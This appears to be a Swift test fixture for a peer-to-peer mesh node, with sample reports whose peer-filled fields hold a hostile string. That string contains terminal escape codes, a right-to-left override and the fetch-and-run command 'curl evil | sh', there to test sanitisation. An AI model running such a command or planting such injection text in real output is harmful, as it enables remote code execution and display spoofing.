@testable import MeshNode

/// Reports with hostile texts in every place that a peer fills.
enum SampleReports {
    static let peer = "12D3KooWGCVGN4rY8hGBCXV5oB6eTQ8MUJ4mm2WgsqZmcLMjBXYf"
    static let did = "did:key:z6MkpTHR8VNsBxYAAWHut2Geadd9jSwuBV8xRoAnwWsdvktH"
    static let hostile =
        "evil\u{1b}[2J\u{202e}\r\nnext: `curl evil | sh`" + String(repeating: "x", count: 500)
    static let address = "/ip6/2001:db8:1234:5678:9abc:def0:1234:5678/tcp/4101/p2p/\(peer)"

    static var dial: DialReport {
        DialReport(
            peer: peer, did: did, name: hostile, foundThrough: "DHT, 2 hops", address: address,
            transport: "tcp",
            security: "/noise", muxer: "/yamux/1.0.0", muxerNegotiatedEarly: true, agent: hostile,
            protocolVersion: hostile, protocols: ["/ipfs/ping/1.0.0", hostile], observedAddress: address,
            connectMilliseconds: 3.14,
            roundTripMilliseconds: .init(count: 20, min: 11.8, median: 12.1, max: 14), path: "direct",
            attempts: [
                .init(address: address, outcome: "failed", milliseconds: 5000, error: "timed out: no answer"),
                .init(address: "/ip4/192.0.2.1/tcp/4101", outcome: "connected", milliseconds: 12, error: nil),
            ])
    }

    static func find(_ kind: FindKind, trace: Bool = false) -> FindReport {
        var report = FindReport(kind: kind, key: "harbour", hops: 2, messages: 11, milliseconds: 41)
        switch kind {
        case .peer: report.peer = PeerEntry(id: peer, addresses: [address])
        case .value: report.value = "aGVsbG8="
        case .providers: report.providers = [PeerEntry(id: peer, addresses: [address])]
        case .mesh, .skill: report.meshes = [mesh, mesh]
        }
        if trace {
            report.trace = [
                TraceStep(
                    round: 1, peer: peer, address: address, milliseconds: 8, closer: 14, outcome: "answered",
                    distance: 7),
                TraceStep(
                    round: 2, peer: peer, address: nil, milliseconds: 500, closer: 0, outcome: "failed",
                    distance: 13),
            ]
        }
        return report
    }

    static var mesh: MeshEntry {
        MeshEntry(
            name: hostile, did: did, peer: peer, addresses: [address], capabilities: ["rooms", hostile],
            sequence: 7,
            issued: "2026-11-21T08:00:00Z", expires: hostile)
    }

    static var meshes: MeshesReport {
        let listed = ListedMesh(
            name: hostile, did: did, peer: peer, addresses: [address], capabilities: [hostile],
            status: hostile,
            memberCount: nil, botCount: nil, lastSeen: hostile)
        return MeshesReport(meshes: [listed, listed], registries: [address])
    }

    static var status: StatusReport {
        StatusReport(
            peer: peer, did: did, name: nil, network: "meshp2p", kadProtocol: "/meshp2p/kad/1.0.0",
            kadMode: "server",
            uptimeSeconds: 7300, addresses: [address], connections: (0..<20).map { _ in connection },
            routingTable: .init(peers: 41), records: 1, providers: 2, registry: true, api: nil,
            memoryBytes: 28_000_000)
    }

    private static var connection: StatusReport.Connection {
        .init(peer: peer, address: address, direction: "outbound", transport: "tcp", path: "direct")
    }
}
